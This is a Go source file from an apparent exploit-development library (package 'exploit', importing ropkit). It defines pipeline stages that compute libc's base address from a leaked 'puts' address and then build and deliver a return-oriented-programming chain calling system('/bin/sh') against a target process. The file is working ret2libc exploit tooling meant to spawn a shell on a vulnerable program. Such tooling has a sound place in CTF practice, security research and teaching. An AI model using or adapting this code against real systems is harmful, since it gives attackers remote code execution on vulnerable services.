package exploit

import (
	"errors"
	"fmt"

	"gitlab.com/stephen-fox/ropkit/elfimage"
)

const (
	// DefaultLibcSymbol is the leaked symbol used to compute the
	// base address of libc when LoadLibcConfig.OptSymbol is empty.
	DefaultLibcSymbol = "puts"

	// DefaultShellCommand is the string passed to system when
	// CallSystemConfig.OptCommand is empty.
	DefaultShellCommand = "/bin/sh"
)

// LoadLibcConfig configures the LoadLibc stage.
type LoadLibcConfig struct {
	// OptPath is the path of the target's libc.
	OptPath string

	// OptImage is used instead of opening OptPath when non-nil.
	OptImage Image

	// OptSymbol is the leaked symbol that the base address
	// is computed from. Defaults to DefaultLibcSymbol.
	OptSymbol string
}

// LoadLibc returns a Stage that rebases the target's libc using
// a previously leaked symbol address and stores it in the state.
func LoadLibc(config LoadLibcConfig) Stage {
	return Stage{
		Name: "load libc",
		Run: func(s *State) (*State, error) {
			return loadLibc(s, config)
		},
	}
}

func loadLibc(s *State, config LoadLibcConfig) (*State, error) {
	err := s.checkInitialized()
	if err != nil {
		return s, err
	}

	symbol := config.OptSymbol
	if symbol == "" {
		symbol = DefaultLibcSymbol
	}

	leaked, ok := s.leaks().Address(symbol)
	if !ok {
		return s, fmt.Errorf("%w (%s)", ErrMissingLeak, symbol)
	}

	libc := config.OptImage
	if libc == nil {
		if config.OptPath == "" {
			return s, errors.New("a libc path or image must be specified")
		}

		libcImage, err := elfimage.Open(config.OptPath)
		if err != nil {
			return s, fmt.Errorf("failed to open libc - %w", err)
		}

		libc = libcImage
	}

	libc.SetBase(0)

	offset, err := libc.Symbol(symbol)
	if err != nil {
		return s, fmt.Errorf("failed to find %q in libc - %w", symbol, err)
	}

	if offset > leaked {
		return s, fmt.Errorf("leaked %s address 0x%x is below its libc offset 0x%x",
			symbol, leaked, offset)
	}

	libc.SetBase(leaked - offset)

	s.Logger().Infof("libc base is 0x%x", libc.Base())

	s.SetLibc(libc)

	return s, nil
}

// CallSystemConfig configures the CallSystem stage.
type CallSystemConfig struct {
	// OptCommand is the string in libc passed to system.
	// Defaults to DefaultShellCommand.
	OptCommand string
}

// CallSystem returns a Stage that delivers a chain calling system
// with a command string found in libc.
func CallSystem(config CallSystemConfig) Stage {
	return Stage{
		Name: "call system",
		Run: func(s *State) (*State, error) {
			return callSystem(s, config)
		},
	}
}

func callSystem(s *State, config CallSystemConfig) (*State, error) {
	err := s.checkInitialized()
	if err != nil {
		return s, err
	}

	deliverer, err := s.Deliverer()
	if err != nil {
		return s, err
	}

	if s.Libc == nil {
		return s, ErrNoLibc
	}

	command := config.OptCommand
	if command == "" {
		command = DefaultShellCommand
	}

	commandAddr, err := s.Libc.Search(append([]byte(command), 0))
	if err != nil {
		return s, fmt.Errorf("failed to find %q in libc - %w", command, err)
	}

	chain, err := s.NewChain()
	if err != nil {
		return s, err
	}

	err = chain.AlignedCall("system", commandAddr)
	if err != nil {
		return s, fmt.Errorf("failed to add system call to chain - %w", err)
	}

	s.Logger().Debugf("system chain:\n%s", chain.Dump())

	raw, err := chain.Bytes()
	if err != nil {
		return s, fmt.Errorf("failed to serialize system chain - %w", err)
	}

	err = deliverer.Deliver(raw)
	if err != nil {
		return s, fmt.Errorf("failed to deliver system chain - %w", err)
	}

	return s, nil
}
